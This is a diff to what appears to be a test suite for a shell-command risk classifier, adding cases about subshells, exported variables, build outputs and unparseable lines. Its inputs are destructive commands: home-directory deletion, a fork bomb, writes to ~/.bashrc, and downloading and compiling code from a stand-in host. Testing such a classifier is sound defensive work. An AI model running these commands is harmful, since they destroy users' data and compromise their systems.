@@ -42,11 +42,16 @@ describe("REQUIREMENTS 1.F: lines that the sources read wrongly", () => {
     expect(tier('sed -i "s/VERSION/$V/" x; sed -n "${a},$((a+9))p" x')).toBe("none");
     expect(tier("go test -v ./...")).toBe("none");
     expect(tier(". ~/.nvm/nvm.sh && nvm use 22")).toBe("none");
+    expect(tier("(echo > /dev/tcp/localhost/3000) && echo open")).toBe("none");
   });
 
   test("what a build makes is run like what is there, unless the line itself wrote what it builds", () => {
     expect(tier("gcc a.c -o /tmp/a && /tmp/a")).toBe("none");
     expect(tier("go build -o bin/ ./... && bin/x")).toBe("none");
+    expect(tier("python3 -m venv /tmp/v && /tmp/v/bin/python -V")).toBe("none");
+    expect(tier("python3 -m venv /tmp/v && /tmp/v/bin/python -c 'import os; os.system(\"rm -rf ~\")'")).toBe(
+      "critical",
+    );
     expect(tier("cat > a.c <<E\nint main() {}\nE\ngcc a.c -o a && ./a")).toBe("high");
     expect(tier("curl -o a.c e.example; gcc a.c -o a && ./a")).toBe("critical");
   });
@@ -346,4 +351,24 @@ test("no text makes it throw or take for ever, and the same text is judged the s
     }),
     { numRuns: 2_000 },
   );
+});
+
+test("another shell gets what was exported, and nothing else of this one", () => {
+  expect(tier("d=build; bash -c 'rm -rf $d/*'")).toBe("critical");
+  expect(tier("d=build bash -c 'rm -rf $d/*'")).toBe("medium");
+  expect(tier("export d=build; bash -c 'rm -rf $d/*'")).toBe("medium");
+  expect(tier("declare -x d=build; sh <<< 'rm -rf $d/*'")).toBe("medium");
+  expect(tier("f() { rm -rf ~; }; bash -c f")).toBe("critical");
+  expect(tier("d=build; eval 'rm -rf $d/*'")).toBe("medium");
+});
+
+test("a text that cannot be parsed is as bad as the worst that stands in it", () => {
+  for (const line of [
+    "if rm -rf ~",
+    "( rm -rf ~",
+    "echo x > ~/.bashrc; if",
+    "case x in; tee -a ~/.profile",
+    ":(){ :|:& };: ; if",
+  ])
+    expect([line, tier(line)]).toEqual([line, "critical"]);
 });
